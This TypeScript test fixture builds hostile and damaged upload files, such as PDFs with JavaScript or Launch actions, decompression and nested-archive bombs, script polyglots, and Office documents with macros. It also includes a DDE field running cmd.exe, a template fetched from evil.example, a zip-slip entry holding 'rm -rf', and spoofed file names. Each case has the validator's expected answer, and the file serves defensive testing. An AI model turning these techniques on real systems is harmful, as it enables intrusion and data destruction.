import { PDFDocument as Pdf, PDFName, PDFString } from '@cantoo/pdf-lib'
import PDFDocument from 'pdfkit'
import { crc32, deflateSync } from 'node:zlib'
import type { FileWarning } from '../../src/files/index.js'
import { docx, jpeg, pdf, png, xlsx, zip } from '../integration/files/samples.js'

/** A file that someone means ill with, or that went wrong on its way, and what the product answers to it. */
export interface HostileFile {
  what: string
  name: string
  make: () => Promise<Buffer> | Buffer
  /** Key of the refusal; status where the whole form is unreadable; or under which name it is taken, with which warnings. */
  answer: { refused: string } | { refusedWhole: number } | { taken: string; warnings: FileWarning[] }
}

const CONTENT_TYPES = (override = ''): string =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${override}</Types>`
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const DOCUMENT = `<w:document ${W}><w:body><w:p/></w:body></w:document>`

/** A document of Word put together by hand, with whatever else lies in it. */
export const handmadeDocx = (more: Record<string, string | Buffer> = {}, options: Parameters<typeof zip>[1] = {}): Buffer =>
  zip({ '[Content_Types].xml': CONTENT_TYPES(), 'word/document.xml': DOCUMENT, ...more }, options)

/** A workbook of two cells, A1 and another wherever; `written` as its address stands in the file. */
export const sparseXlsx = (other: string, written = other): Buffer => {
  const row = /[0-9]+$/.exec(other)?.[0] ?? ''
  const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
  const relation = (id: string, type: string, target: string): string =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"/></Relationships>`
  const sheet = `<row${other === written ? ` r="1"` : ''}><c r="A1"><v>1</v></c></row><row${other === written ? ` r="${row}"` : ''}><c r="${written}"><v>2</v></c></row>`
  return zip(
    {
      '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
      '_rels/.rels': relation('r', 'officeDocument', 'xl/workbook.xml'),
      'xl/workbook.xml': `<workbook ${main} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="s"/></sheets></workbook>`,
      'xl/_rels/workbook.xml.rels': relation('s', 'worksheet', 'worksheets/sheet1.xml'),
      'xl/worksheets/sheet1.xml': `<worksheet ${main}><sheetData>${sheet}</sheetData></worksheet>`,
    },
    { deflate: true },
  )
}

/** A PDF that does something of its own when opened. */
export const activePdf = async (what: 'script' | 'launch' | 'embedded'): Promise<Buffer> => {
  const document = await Pdf.create()
  document.addPage()
  const { context, catalog } = document
  if (what === 'script') document.addJavaScript('greet', 'app.alert("run")')
  if (what === 'launch') catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }))
  if (what === 'embedded') await document.attach(Buffer.from('MZ'), 'setup.exe', {})
  return Buffer.from(await document.save())
}

/** Marked as signed, as a reader of PDFs would find it. */
export const signedPdf = async (): Promise<Buffer> => {
  const document = await Pdf.create()
  document.setAuthor('Signatory')
  document.addPage()
  const { context, catalog } = document
  const signature = context.obj({ Type: 'Sig', Filter: 'Adobe.PPKLite', SubFilter: 'adbe.pkcs7.detached', ByteRange: [0, 10, 20, 30], Contents: PDFString.of('00') })
  const field = context.register(context.obj({ FT: 'Sig', T: PDFString.of('Signature1'), V: context.register(signature) }))
  catalog.set(PDFName.of('AcroForm'), context.obj({ SigFlags: 3, Fields: [field] }))
  return Buffer.from(await document.save())
}

export const encryptedPdf = (): Promise<Buffer> =>
  new Promise((resolve) => {
    const document = new PDFDocument({ userPassword: 'secret', ownerPassword: 'owner', pdfVersion: '1.7' })
    const chunks: Buffer[] = []
    document.on('data', (chunk: Buffer) => chunks.push(chunk)).on('end', () => resolve(Buffer.concat(chunks)))
    document.text('closed')
    document.end()
  })

/** A PDF whose objects unpack to gigabytes. */
const densePdf = (): Buffer => {
  const dense = deflateSync(Buffer.alloc(160 * 1024 * 1024))
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${dense.length}>>\nstream\n`),
    dense,
    Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 2 0 R>>\n%%EOF'),
  ])
}

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** A picture of a few bytes that says it measures 60,000 by 60,000. */
const hugePng = (): Buffer => {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(60_000, 0)
  head.writeUInt32BE(60_000, 4)
  head.set([8, 2, 0, 0, 0], 8)
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), chunk('IDAT', deflateSync(Buffer.alloc(1000))), chunk('IEND', Buffer.alloc(0))])
}

/** A picture large enough to be cut off in its middle. */
const noise = async (): Promise<Buffer> => {
  const { default: sharp } = await import('sharp')
  const raw = Buffer.from(Array.from({ length: 64 * 64 * 3 }, (_none, at) => (at * 7919) % 251))
  return sharp(raw, { raw: { width: 64, height: 64, channels: 3 } }).png().toBuffer()
}

const half = (bytes: Buffer): Buffer => bytes.subarray(0, Math.floor(bytes.length / 2))
const MIB = 1024 * 1024
const external = '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
const dde = `<w:document ${W}><w:body><w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:body></w:document>`
const nest = (depth: number): Buffer => (depth === 0 ? zip({ 'a.txt': 'x' }) : zip({ 'inner.zip': nest(depth - 1) }))

const refused = (key: string): HostileFile['answer'] => ({ refused: key })
const taken = (name: string, ...warnings: FileWarning[]): HostileFile['answer'] => ({ taken: name, warnings })

/** Every one made by the tests themselves. What may be taken is where questions ask for any kind that the product knows. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  { what: 'nothing at all', name: 'empty.pdf', make: () => Buffer.alloc(0), answer: refused('files.empty') },
  { what: 'a PDF of only its first line', name: 'a.pdf', make: () => Buffer.from('%PDF-1.7\n'), answer: refused('files.pdfBroken') },
  { what: 'a PDF of zeros', name: 'a.pdf', make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(50_000)]), answer: refused('files.pdfBroken') },
  { what: 'a PDF cut off in its middle', name: 'a.pdf', make: async () => half(await pdf()), answer: refused('files.pdfBroken') },
  { what: 'a PDF behind a password', name: 'a.pdf', make: encryptedPdf, answer: refused('files.locked') },
  { what: 'a PDF that unpacks to far too much', name: 'a.pdf', make: densePdf, answer: refused('files.pdfTooComplex') },
  { what: 'a PDF with JavaScript', name: 'script.pdf', make: () => activePdf('script'), answer: taken('script.pdf', 'script') },
  { what: 'a PDF that starts a program', name: 'launch.pdf', make: () => activePdf('launch'), answer: taken('launch.pdf', 'launch') },
  { what: 'a PDF with a program in it', name: 'embedded.pdf', make: () => activePdf('embedded'), answer: taken('embedded.pdf', 'embedded') },
  { what: 'a PDF that is an archive as well', name: 'both.pdf', make: async () => Buffer.concat([await pdf(), zip({ 'evil.exe': 'MZ' })]), answer: taken('both.pdf') },
  { what: 'an archive that is a PDF as well', name: 'both.docx', make: async () => Buffer.concat([await pdf(), await docx()]), answer: refused('files.contradicts') },
  { what: 'a picture that is a script as well', name: 'a.gif', make: () => Buffer.from('GIF89a=1;alert(document.cookie)//'), answer: refused('files.wrongKind') },
  { what: 'the same under the name of an allowed kind', name: 'a.png', make: () => Buffer.from('GIF89a=1;alert(document.cookie)//'), answer: refused('files.contradicts') },
  { what: 'a picture that is a page as well', name: 'page.png', make: async () => Buffer.concat([await png(), Buffer.from('<html><script>alert(1)</script>')]), answer: taken('page.png') },
  { what: 'the same under the name of a page', name: 'page.html', make: async () => Buffer.concat([await png(), Buffer.from('<html><script>alert(1)</script>')]), answer: refused('files.contradicts') },
  { what: 'a drawing with a script', name: 'a.svg', make: () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), answer: refused('files.wrongKind') },
  { what: 'a picture cut off in its middle', name: 'a.png', make: async () => half(await noise()), answer: refused('files.imageBroken') },
  { what: 'a picture of 3,600 million pixels', name: 'a.png', make: hugePng, answer: refused('files.imageTooLarge') },
  { what: 'a photograph under the name of a PDF', name: 'a.pdf', make: jpeg, answer: refused('files.contradicts') },
  { what: 'a document cut off in its middle', name: 'a.docx', make: async () => half(await docx()), answer: refused('files.unknownKind') },
  { what: 'a document that unpacks to far too much', name: 'a.docx', make: () => handmadeDocx({ 'word/media/a.bin': Buffer.alloc(64 * MIB) }, { deflate: true }), answer: refused('files.archiveBomb') },
  { what: 'a document that lies about how much it unpacks to', name: 'a.docx', make: () => handmadeDocx({ 'word/media/a.bin': Buffer.alloc(4 * MIB) }, { deflate: true, declared: 1000 }), answer: refused('files.officeBroken') },
  { what: 'a document with archives within archives', name: 'a.docx', make: () => handmadeDocx({ 'word/embeddings/a.zip': nest(4) }), answer: refused('files.archiveBomb') },
  { what: 'a document that writes outside of itself', name: 'a.docx', make: () => handmadeDocx({ '../../evil.sh': 'rm -rf' }), answer: refused('files.officeBroken') },
  { what: 'a document with a macro', name: 'macro.docx', make: () => handmadeDocx({ 'word/vbaProject.bin': 'Sub AutoOpen' }), answer: taken('macro.docx', 'macro') },
  { what: 'a document with a program in it', name: 'ole.docx', make: () => handmadeDocx({ 'word/embeddings/oleObject1.bin': 'MZ' }), answer: taken('ole.docx', 'ole') },
  { what: 'a document that fetches a template', name: 'external.docx', make: () => handmadeDocx({ 'word/_rels/settings.xml.rels': external }), answer: taken('external.docx', 'external') },
  { what: 'a document whose field starts a program', name: 'dde.docx', make: () => handmadeDocx({ 'word/document.xml': dde }), answer: taken('dde.docx', 'dde') },
  { what: 'a document of nothing but beginnings of relations', name: 'open.docx', make: () => handmadeDocx({ 'word/_rels/document.xml.rels': '<Relationship '.repeat(600_000) }, { deflate: true }), answer: taken('open.docx') },
  { what: 'a document of nothing but beginnings of fields', name: 'fields.docx', make: () => handmadeDocx({ 'word/document.xml': '<w:instrText<w:fldSimple '.repeat(300_000), 'docProps/core.xml': '<dc:creator '.repeat(600_000) }, { deflate: true }), answer: taken('fields.docx') },
  { what: 'a workbook under the name of a document', name: 'a.docx', make: xlsx, answer: refused('files.contradicts') },
  { what: 'a name of 10,000 characters', name: `${'long'.repeat(2_499)}.pdf`, make: () => pdf(), answer: taken(`${'long'.repeat(49)}.pdf`) },
  { what: 'a name of 10,000 Chinese characters, more than a form may say of a file', name: `${'长'.repeat(9_996)}.pdf`, make: () => pdf(), answer: { refusedWhole: 400 } },
  { what: 'a name that climbs out of its folder', name: '../../../etc/cron.d/x.pdf', make: () => pdf(), answer: taken('x.pdf') },
  { what: 'a name with a zero byte', name: 'a.pdf\0.exe', make: () => pdf(), answer: { refusedWhole: 400 } },
  { what: 'a name that reads backwards', name: 'invoice\u202efdp.exe', make: () => pdf(), answer: refused('files.contradicts') },
  { what: 'a name that is a device', name: 'CON.pdf', make: () => pdf(), answer: taken('CON.pdf') },
  { what: 'a name with dots behind it', name: 'a.pdf...', make: () => pdf(), answer: taken('a.pdf') },
]
